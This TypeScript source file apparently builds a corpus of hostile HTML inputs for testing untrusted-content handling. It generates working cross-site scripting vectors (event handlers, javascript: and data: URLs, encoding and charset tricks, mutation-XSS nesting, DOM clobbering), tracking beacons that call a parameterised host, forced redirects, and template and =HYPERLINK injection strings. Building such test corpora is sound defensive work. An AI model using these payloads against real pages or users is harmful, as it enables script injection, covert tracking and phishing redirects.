/**
 * What strangers may put into an email, a name, a reply: thousands of lines that try to run a
 * script, to tell a beacon that they were looked at, or to lead the page away. They are combined
 * from parts: what runs, how it is spelt, what carries it, what it is nested in. A script that runs
 * writes `ran` to the console, which a browser tells of every frame.
 */

/** `beacon` is host:port of whoever must never be asked. */
export function hostileLines(beacon: string): readonly string[] {
  const all = [
    ...handlers(),
    ...schemes(),
    ...loads(beacon),
    ...styles(beacon),
    ...leading(beacon),
    ...nested(beacon),
    ...charsets(),
    ...breakouts(beacon),
    ...clobbering(),
  ]
  return [...new Set(all)]
}

const cross = <A, B>(many: readonly A[], others: readonly B[], join: (a: A, b: B) => string) =>
  many.flatMap(one => others.map(other => join(one, other)))

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const entities = (text: string, form: (code: number) => string): string =>
  [...text].map(letter => form(letter.codePointAt(0)!)).join('')
const decimal = (text: string): string => entities(text, code => `&#${code};`)
const hex = (text: string): string => entities(text, code => `&#x${code.toString(16)};`)
const padded = (text: string): string => entities(text, code => `&#${`${code}`.padStart(7, '0')}`)
const mixedCase = (text: string): string =>
  [...text].map((letter, n) => (n % 2 === 0 ? letter.toUpperCase() : letter)).join('')

// What runs --------------------------------------------------------------------------------------

/** None of them needs a quotation mark of either kind. */
const codes = [
  'console.log(`ran`)',
  'console.log`ran`',
  `eval(atob(\`${base64("console.log('ran')")}\`))`,
  '[].map.constructor(`console.log(\\`ran\\`)`)()',
] as const
const [code, bare] = codes

/** What fires by itself; the handler stands where the star is. */
const moments: readonly (readonly [string, string])[] = [
  ['<img src=x:x*>', 'onerror'],
  ['<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=*>', 'onload'],
  ['<img srcset=x:x*>', 'onerror'],
  ['<svg*>', 'onload'],
  ['<body*>', 'onload'],
  ['<body*>', 'onpageshow'],
  ['<body*><iframe onload=history.back()></iframe>', 'onresize'],
  ['<iframe*></iframe>', 'onload'],
  ['<iframe srcdoc=x*></iframe>', 'onload'],
  ['<object data=x:x*></object>', 'onerror'],
  ['<embed src=/x*>', 'onload'],
  ['<input autofocus*>', 'onfocus'],
  ['<input type=image src=x:x*>', 'onerror'],
  ['<textarea autofocus*></textarea>', 'onfocus'],
  ['<select autofocus*></select>', 'onfocus'],
  ['<button autofocus*></button>', 'onfocus'],
  ['<a href=# autofocus*>x</a>', 'onfocus'],
  ['<p tabindex=1 contenteditable autofocus*>x</p>', 'onfocusin'],
  ['<details open*>x</details>', 'ontoggle'],
  ['<video src=x:x*></video>', 'onerror'],
  ['<video*><source src=x:x></video>', 'onloadstart'],
  ['<audio src=x:x*></audio>', 'onerror'],
  ['<video><source src=x:x*></video>', 'onerror'],
  ['<link rel=stylesheet href=x:x*>', 'onerror'],
  ['<script src=x:x*></script>', 'onerror'],
  ['<style*></style>', 'onload'],
  ['<marquee width=9*>x</marquee>', 'onstart'],
  ['<svg><animate attributeName=x dur=1s*></svg>', 'onbegin'],
  ['<svg><set attributeName=x dur=9ms*></svg>', 'onend'],
  ['<svg><image href=x:x*></svg>', 'onerror'],
  ['<style>@keyframes k{}</style><b style=animation:k*>x</b>', 'onanimationstart'],
  ['<p style=content-visibility:auto*>x</p>', 'oncontentvisibilityautostatechange'],
  ['<math><mtext><img src=x:x*></math>', 'onerror'],
  ['<picture><source srcset=x:x><img*></picture>', 'onerror'],
]

/** How a handler is spelt: name and code become what stands inside the tag. */
const spellings: readonly ((name: string, code: string) => string)[] = [
  (name, code) => ` ${name}="${code}"`,
  (name, code) => ` ${name}='${code}'`,
  (name, code) => ` ${name}=${code.replaceAll(' ', '/**/')} `,
  (name, code) => `/${name}="${code}"`,
  (name, code) => `\n\t\f${mixedCase(name)}\n=\n"${code}"`,
  (name, code) => ` ${name}="${decimal(code)}"`,
  (name, code) => ` ${name}="${hex(code)}"`,
  (name, code) => ` title=">" ${name}=${padded(code)} `,
]

const handlers = (): string[] =>
  moments.flatMap(([element, name]) =>
    cross(spellings, codes, (spell, one) => element.replace('*', () => spell(name, one))),
  )

// What an address carries ------------------------------------------------------------------------

const scriptAddresses = [
  `javascript:${code}`,
  `JaVaScRiPt:${bare}`,
  `java&Tab;script:${code}`,
  `java&NewLine;script&colon;${bare}`,
  `&#1;&#32;javascript:${code}`,
  `${decimal('javascript:')}${code}`,
  `${hex('javascript')}&colon;${bare}`,
  `javascript://x/%0a${code}`,
  `data:text/html,<script>${code}</script>`,
  `data:text/html;base64,${base64(`<script>${code}</script>`)}`,
  `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`)}`,
  `data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml" xmlns:s="x"><body onload="${bare}"/></html>`,
  `vbscript:${code}`,
  `blob:null/${code}`,
].map(address => address.replaceAll('"', '&quot;'))

const scriptCarriers: readonly ((address: string) => string)[] = [
  at => `<iframe src="${at}"></iframe>`,
  at => `<embed src="${at}">`,
  at => `<object data="${at}"></object>`,
  at => `<object><param name=src value="${at}"></object>`,
  at => `<script src="${at}"></script>`,
  at => `<link rel=stylesheet href="${at}">`,
  at => `<link rel=import href="${at}">`,
  at => `<meta http-equiv=refresh content="0;url=${at}">`,
  at => `<base href="${at}"><img src=x><a href=#>x</a>`,
  at => `<a href="${at}" autofocus>x</a>`,
  at => `<a target=_top href="${at}">x</a>`,
  at => `<form action="${at}"><input type=submit autofocus></form>`,
  at => `<form><button formaction="${at}" autofocus>x</button></form>`,
  at => `<svg><a xlink:href="${at}"><text y=9>x</text></a></svg>`,
  at => `<svg><use href="${at}#x"/></svg>`,
  at => `<svg><a><animate attributeName=href values="${at}"/><text y=9>x</text></a></svg>`,
  at => `<svg><script href="${at}"></script></svg>`,
  at => `<math href="${at}">x</math>`,
  at => `<frameset><frame src="${at}"></frameset>`,
  at => `<img src="${at}">`,
  at => `<video poster="${at}" src="${at}"></video>`,
  at => `<table background="${at}"><td background="${at}">x</table>`,
]

const schemes = (): string[] => cross(scriptCarriers, scriptAddresses, (carry, at) => carry(at))

// What loads -------------------------------------------------------------------------------------

const spelledBeacon = (beacon: string): readonly string[] => [
  `http://${beacon}/b`,
  `//${beacon}/b`,
  `HTTP:\\\\${beacon}\\b`,
  `http:&Tab;//${beacon}/b?${'q'.repeat(40)}`,
  ` &#10;${decimal('http')}://u:p@${beacon}/b`,
]

const carriers: readonly ((at: string) => string)[] = [
  at => `<img src="${at}">`,
  at => `<img srcset="${at} 1x, ${at}2 2x">`,
  at => `<img lowsrc="${at}" dynsrc="${at}" longdesc="${at}">`,
  at => `<img attributionsrc="${at}" src="${at}">`,
  at => `<image src="${at}">`,
  at => `<picture><source srcset="${at}"><img></picture>`,
  at => `<video poster="${at}" autoplay></video>`,
  at => `<video autoplay muted src="${at}"></video>`,
  at => `<video autoplay><source src="${at}"><track default src="${at}"></video>`,
  at => `<audio autoplay preload=auto src="${at}"></audio>`,
  at => `<bgsound src="${at}">`,
  at => `<input type=image src="${at}">`,
  at => `<iframe src="${at}"></iframe>`,
  at => `<iframe loading=eager srcdoc="<img src='${at}'>"></iframe>`,
  at => `<iframe csp="report-uri ${at}" src="${at}"></iframe>`,
  at => `<fencedframe src="${at}"></fencedframe><portal src="${at}"></portal>`,
  at => `<frameset><frame src="${at}"></frameset>`,
  at => `<embed src="${at}">`,
  at => `<object data="${at}"><embed src="${at}"></object>`,
  at => `<applet code="${at}" archive="${at}"></applet>`,
  at => `<script src="${at}"></script>`,
  at => `<script type=module src="${at}"></script>`,
  at =>
    `<script type=importmap>{"imports":{"x":"${at}"}}</script><script type=module>import 'x'</script>`,
  at => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${at}"]}]}</script>`,
  at => `<link rel=stylesheet href="${at}">`,
  at => `<link rel="alternate stylesheet" href="${at}">`,
  at => `<link rel=icon href="${at}"><link rel=apple-touch-icon href="${at}">`,
  at => `<link rel=preload as=image href="${at}">`,
  at => `<link rel=preload as=image imagesrcset="${at} 1x">`,
  at =>
    `<link rel=preload as=script href="${at}"><link rel=preload as=font crossorigin href="${at}">`,
  at => `<link rel=modulepreload href="${at}">`,
  at => `<link rel=prefetch href="${at}">`,
  at => `<link rel=prerender href="${at}">`,
  at => `<link rel=preconnect href="${at}">`,
  at => `<link rel=preconnect crossorigin href="${at}">`,
  at => `<link rel=dns-prefetch href="${at}">`,
  at => `<link rel=manifest href="${at}">`,
  at => `<link rel=compression-dictionary href="${at}">`,
  at => `<link rel=pingback href="${at}"><link rel=search href="${at}">`,
  at => `<html manifest="${at}"><head profile="${at}">`,
  at => `<meta http-equiv=Link content="<${at}>;rel=preload;as=image">`,
  at =>
    `<meta http-equiv=Content-Security-Policy content="img-src *; report-uri ${at}"><img src="${at}">`,
  at => `<meta http-equiv=x-dns-prefetch-control content=on><a href="${at}">x</a>`,
  at => `<body background="${at}">`,
  at => `<table background="${at}"><tr background="${at}"><td background="${at}">x</table>`,
  at => `<svg><image href="${at}" width=9 height=9 /></svg>`,
  at => `<svg><image xlink:href="${at}" width=9 height=9 /></svg>`,
  at => `<svg><use href="${at}#x"/></svg>`,
  at =>
    `<svg><filter id=f><feImage href="${at}"/></filter><rect filter=url(#f) width=9 height=9 /></svg>`,
  at => `<svg><rect fill="url(${at}#p)" mask="url(${at}#m)" width=9 height=9 /></svg>`,
  at =>
    `<svg><animate attributeName=href values="${at}"/><image id=i /><set href=#i attributeName=href to="${at}"/></svg>`,
  at => `<?xml-stylesheet href="${at}"?><p>x</p>`,
  at => `<p>x</p><base href="${at}/"><img src=rel><link rel=stylesheet href=rel.css>`,
  at => `<template shadowrootmode=open><img src="${at}"></template>`,
  at =>
    `<div><template shadowrootmode=open><img src="${at}"><style>@import "${at}"</style></template></div>`,
  at => `<a ping="${at}" href="#x" autofocus>x</a>`,
]

const loads = (beacon: string): string[] =>
  cross(carriers, spelledBeacon(beacon), (carry, at) => carry(at))

/** `at` stands in style sheets; entities would not be read there. */
const declarations: readonly ((at: string) => string)[] = [
  at => `background:url(${at})`,
  at => `background-image:url("${at}")`,
  at => `background-image:image-set("${at}" 1x)`,
  at => `background-image:-webkit-image-set(url(${at}) 1x)`,
  at => `background:-webkit-cross-fade(url(${at}),url(${at}),50%)`,
  at => `list-style-image:url(${at});display:list-item`,
  at => `cursor:url(${at}),auto`,
  at => `content:url(${at})`,
  at => `border:9px solid;border-image:url(${at}) 9`,
  at => `mask-image:url(${at})`,
  at => `-webkit-mask:url(${at})`,
  at => `filter:url(${at}#f)`,
  at => `clip-path:url(${at}#c)`,
  at => `shape-outside:url(${at});float:left`,
  at => `offset-path:url(${at}#o)`,
  at => `-moz-binding:url(${at}#b)`,
  at => `behavior:url(${at})`,
  () => `width:expression(${code})`,
  at => `background:u\\72l(${at})`,
  at => `background:/**/url(/**/${at})`,
  at => `--x:url(${at});background:var(--x)`,
]

const sheets: readonly ((at: string) => string)[] = [
  at => `<style>@import "${at}";</style>`,
  at => `<style>@import url(${at});</style>`,
  at => `<style>@import url(${at}) layer(x) supports(color:red) screen;</style>`,
  at => `<style>@\\69mport '${at}';</style>`,
  at => `<style>@charset "utf-8";@namespace url(${at});@import"${at}"</style>`,
  at => `<style>@font-face{font-family:f;src:url(${at})}*{font-family:f}</style>x`,
  at =>
    `<style>@font-face{font-family:f;src:local(none),url(${at}) format("woff2")}b{font:9px f}</style><b>x</b>`,
  at => `<style>p::before{content:url(${at})}</style><p>x</p>`,
  at => `<style>@page{background:url(${at})}@media print{p{background:url(${at})}}</style><p>x</p>`,
  at => `<style>input[value^=a]{background:url(${at})}</style><input value=abc>`,
  at => `<style><!-- p{background:url(${at})} --></style><p>x</p>`,
  at => `<svg><style>@import url(${at});</style></svg>`,
  at => `<svg><style>&lt;/style>&#64;import url(${at});</style></svg>`,
  at => `<style media=all type=text/css>p{background:url('${at}`,
  at => `<link rel=stylesheet href="data:text/css,@import url(${at});">`,
]

function styles(beacon: string): string[] {
  const places = [`http://${beacon}/s`, `//${beacon}/s`, `http:\\2f\\2f ${beacon}/s`]
  const inAttributes = cross(
    declarations,
    places,
    (declare, at) => `<p style="${declare(at).replaceAll('"', '&quot;')}">x</p>`,
  )
  const inSheets = cross(
    declarations,
    places.slice(0, 2),
    (declare, at) => `<style>p{${declare(at)}}</style><p>x</p>`,
  )
  return [...inAttributes, ...inSheets, ...cross(sheets, places, (sheet, at) => sheet(at))]
}

// What leads away --------------------------------------------------------------------------------

function leading(beacon: string): string[] {
  const places = [`http://${beacon}/t`, `//${beacon}/t`, '/login', 'about:blank']
  const ways: readonly ((at: string) => string)[] = [
    at => `<meta http-equiv=refresh content="0;url=${at}">`,
    at => `<meta http-equiv=refresh content="0; URL='${at}'">`,
    at => `<META HTTP-EQUIV="re&#102;resh" CONTENT="0,${at}">`,
    at => `<svg><desc><meta http-equiv=refresh content="0 ${at}"></desc></svg>`,
    at =>
      `<p>x<meta content="0.1;${at}" http-equiv="Refresh "><meta content="0;${at}" http-equiv=Refresh>`,
    at => `<noscript><meta http-equiv=refresh content="0;url=${at}"></noscript>`,
    at =>
      `<form action="${at}" target=_top><input name=q value=1><button autofocus>x</button></form><script>document.forms[0].submit()</script>`,
    at => `<form id=f action="${at}" method=post></form><img src=x:x onerror=f.submit()>`,
    at =>
      `<form id=f action="${at}" method=dialog></form><input form=f type=image src=x:x onerror=form.submit()>`,
    at => `<script>top.location='${at}'</script>`,
    at => `<script>parent.postMessage('${at}','*');window.open('${at}')</script>`,
    at => `<iframe src="javascript:top.location='${at}'"></iframe>`,
    at =>
      `<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location='${at}'</script>"></iframe>`,
    at => `<base target=_top href="${at}"><a href=x autofocus>x</a>`,
    at => `<body onload="location='${at}'">`,
    at => `<object data="${at}" type=text/html></object>`,
    at => `<meta http-equiv=Location content="${at}"><meta http-equiv=Set-Cookie content="a=b">`,
    at =>
      `<svg><a href="${at}" target=_top><animate attributeName=x begin=0s onbegin="this.parentNode.click()"/></a></svg>`,
  ]
  return cross(ways, places, (way, at) => way(at))
}

// What it is nested in ---------------------------------------------------------------------------

function nested(beacon: string): string[] {
  const payloads = [
    `<img src=x:x onerror=${code}>`,
    `<script>${code}</script>`,
    `<svg onload=${bare}>`,
    `<img src=http://${beacon}/n>`,
    `<style>@import "//${beacon}/n"</style>`,
    `<iframe src=//${beacon}/n></iframe>`,
    `<details open ontoggle=${code}>`,
    `<meta http-equiv=refresh content=0;//${beacon}/n>`,
  ]
  return cross(nests, payloads, (nest, inner) => nest(inner))
}

/** Where parsers disagree with themselves: foreign content, raw text, tables, unfinished things. */
const nests: readonly ((inner: string) => string)[] = [
  inner => `<svg><style><a title="</style>${inner}">`,
  inner => `<svg></p><style><a id="</style>${inner}">`,
  inner => `<math><mtext><table><mglyph><style><!--</style>${inner}--></style>`,
  inner => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  inner => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
  inner => `<math><annotation-xml encoding="text/html"><svg><foreignObject>${inner}`,
  inner => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  inner => `<svg><desc>${inner}</desc></svg>`,
  inner => `<svg><title>${inner}</title></svg>`,
  inner => `<noscript><p title="</noscript>${inner}">`,
  inner => `<noscript>${inner}</noscript>`,
  inner => `<noembed>${inner}</noembed><noframes></noframes>${inner}`,
  inner => `<template>${inner}</template>${inner}`,
  inner => `<template><template shadowrootmode=open>${inner}</template></template>`,
  inner => `<p><template shadowrootmode=closed>${inner}</template></p>`,
  inner => `<textarea>x</textarea>${inner}</textarea>`,
  inner => `<title>x</title>${inner}</title>`,
  inner => `<xmp>x</xmp>${inner}`,
  inner => `<iframe><!-- </iframe>${inner} -->`,
  inner => `<iframe srcdoc="${inner.replaceAll('"', '&quot;')}"></iframe>`,
  inner =>
    `<iframe srcdoc="<iframe srcdoc='${inner.replaceAll('"', '&amp;quot;')}'></iframe>"></iframe>`,
  inner => `<select><option>${inner}</option></select>${inner}`,
  inner => `<table><tr>${inner}<td>x</table>`,
  inner => `<!-- x --!>${inner}-->`,
  inner => `<!-->${inner}-->`,
  inner => `<!--[if gte IE 4]>${inner}<![endif]-->`,
  inner => `<![CDATA[x]]>${inner}`,
  inner => `<svg><![CDATA[</svg>${inner}]]></svg>`,
  inner => `<?php ?>${inner}<!ENTITY x "${inner}">`,
  inner => `<a title="x'>${inner}`,
  inner => `<a title=x"">${inner}</a "">`,
  inner => `<<b>${inner}</b//>`,
  inner => inner.replace('<', '<\u0000').replace(' ', '\u0000/'),
  inner => `\uFEFF${inner.replace('>', '')}\n`,
  inner => `</p></body></html>${inner}`,
  inner => `<plaintext>x</plaintext>${inner}`,
  inner => `<object type=text/html><param name=movie>${inner}</object>`,
  inner => `<dialog open popover id=d>${inner}</dialog>`,
  inner => `<frameset></frameset>${inner}`,
]

// How it is spelt on the wire --------------------------------------------------------------------

function charsets(): string[] {
  const utf7 = '+ADw-script+AD4-console.log(+AGA-ran+AGA-)+ADw-/script+AD4-'
  const names = [
    'utf-7',
    'UTF-16',
    'iso-2022-jp',
    'hz-gb-2312',
    'x-user-defined',
    'shift_jis',
    'ibm037',
  ]
  const declared = names.flatMap(name => [
    `<meta charset=${name}>`,
    `<meta http-equiv=content-type content="text/html; charset=${name}">`,
    `<?xml version="1.0" encoding="${name}"?>`,
  ])
  const bodies = [
    utf7,
    `\u001b$B\u001b(B<img src=x:x onerror=${code}>`,
    `<img title="\u001b(J\\" src=x:x onerror=${code} x="">`,
    `~{<img src=x:x onerror=${bare}>~}`,
    `\uFF1Cscript\uFF1E${code}\uFF1C/script\uFF1E`,
  ]
  return cross(declared, bodies, (declare, body) => declare + body)
}

// Lines that break out of where a page puts them -------------------------------------------------

function breakouts(beacon: string): string[] {
  const out = [
    '"',
    "'",
    '`',
    '">',
    "'>",
    '</title>',
    '</textarea>',
    '</script>',
    '-->',
    ']]>',
    '*/',
  ]
  const more = ['</style>', '\\', '\\"', "\\'", '\u2028', '\r\n', '%22%3E', '&quot;&gt;', '\u0085']
  const then = [
    `<img src=x:x onerror=${code}>`,
    `<script>${code}</script>`,
    ` autofocus onfocus=${bare} x=`,
    `;${code}//`,
    `-${code}-`,
    `<img src=http://${beacon}/o>`,
  ]
  const templates = [
    `{{constructor.constructor('${code}')()}}`,
    `\${${code}}`,
    `#{${code}}`,
    `<%= ${code} %>`,
    `{"__html":"<img src=x:x onerror=${code}>"}`,
    `{"dangerouslySetInnerHTML":{"__html":"<svg onload=${bare}>"}}`,
    `[x](javascript:${code})`,
    `![x](http://${beacon}/o)`,
    `javascript:${code}`,
    `data:text/html,<script>${code}</script>`,
    `http://${beacon}/o`,
    `www.${beacon}/o`,
    `\u202E<img src=x:x onerror=${code}>`,
    `=HYPERLINK("http://${beacon}/o")`,
  ]
  return [...cross([...out, ...more], then, (a, b) => a + b), ...templates]
}

/** Names that a page's own script might trip over. */
const clobbering = (): string[] =>
  cross(
    ['document', 'location', 'body', 'root', 'attributes', 'ownerDocument', 'defaultView'],
    ['form', 'img', 'iframe', 'a', 'object'],
    (name, tag) => `<${tag} id=${name} name=${name} href="javascript:${code}"></${tag}>`,
  )
